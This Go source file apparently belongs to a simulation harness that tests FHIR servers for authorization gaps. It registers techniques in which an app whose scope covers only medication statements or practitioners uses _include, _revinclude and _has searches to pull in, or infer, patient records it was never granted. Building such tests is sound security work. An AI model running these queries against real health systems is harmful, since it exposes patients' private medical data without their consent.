package attacker

import (
	"context"
	"net/url"

	"thiefbox/sim/event"
)

// What a search is asked for is one thing, what comes along with the answer another: whose it is, and whether the token is
// for that at all, is asked again for each entry, or by nobody.

var _ = register("F-03", Technique{
	Variant: "compartment",
	Title:   "A patient's record brings her daughter's along",
	Story: "The thief is a doctor. What an old patient of his takes has been told by her daughter, who gives it to her and is no patient of his. " +
		"He searches for what the mother takes, and asks for whoever told of it to be brought along.",
	Reads:  []string{"FHIR R4 search, _include", "FHIR R4 MedicationStatement.informationSource", "microsoft/fhir-server PR #5683"},
	Has:    []event.Asset{event.OwnClient},
	Beyond: beyondObjects,
	Run:    asks(whoTold),
})

var _ = register("F-03/scope", Technique{
	Variant: "scope",
	Title:   "An app for lists of medication takes patients along",
	Story: "A clinician lets the thief's app see what her patients take, and nothing else. For a patient whom both of them treat it asks for that, as it may, and for whoever told " +
		"of it to be brought along: a daughter, whom the clinician treats too, and whose record the app was not let in for.",
	Reads:    []string{"FHIR R4 search, _include", "awslabs/fhir-works-on-aws-authz-smart PR #88", "HL7/smart-app-launch issue #148"},
	Evidence: "A search with _include by a client whose scope does not hold the types that it ends at.",
	Has:      []event.Asset{event.OwnClient},
	Run:      letIn("user/MedicationStatement.rs", whoTold),
})

var _ = register("F-03/staff", Technique{
	Variant: "staff",
	Title:   "An app for the list of staff takes the patients along",
	Story: "A clinician lets the thief's app look up who works where. It names no patient and sees none, so nobody thinks twice. The app looks professionals up, and asks " +
		"for whatever refers to them to be brought along: her patients do.",
	Reads:    []string{"FHIR R4 search, _revinclude", "tewhatuora/api-standards issue #155"},
	Evidence: "A search with _revinclude by a client whose scope does not hold the types that it begins at.",
	Has:      []event.Asset{event.OwnClient},
	Run:      letIn("user/Practitioner.rs", func(Ground) string { return "/Practitioner?_revinclude=Patient:general-practitioner" }),
})

var _ = register("F-05/scope", Technique{
	Variant: "has-beyond-scope",
	Title:   "An app for the list of staff asks about patients",
	Story: "The same app searches for professionals who are the doctor of a patient with a given number, which the clinician may ask and the app may not. Only professionals are " +
		"shown; that one is found says that there is such a patient, and whose.",
	Reads:    []string{"FHIR R4 search, _has", "hapi-fhir #6065"},
	Evidence: "A search through a type that the client's scope does not hold.",
	Has:      []event.Asset{event.OwnClient},
	Run: letIn("user/Practitioner.rs", func(g Ground) string {
		return "/Practitioner?_has:Patient:general-practitioner:_id=" + url.QueryEscape(stranger(g))
	}),
})

func whoTold(g Ground) string {
	return "/MedicationStatement?patient=" + url.QueryEscape(g.Target().OwnPatient) + "&_include=MedicationStatement:source"
}

// letIn is a technique that has a clinician let the thief's app in with a scope, and sends one question in her name.
func letIn(scope string, question func(Ground) string) func(context.Context, Ground) error {
	return func(ctx context.Context, g Ground) error {
		a, err := ownApp(ctx, g)
		if err != nil {
			return err
		}
		t, err := a.invited(ctx, "openid "+scope)
		if err != nil {
			return err
		}
		_, err = a.read(ctx, g.Target().FHIRBase+question(g), t)
		return err
	}
}
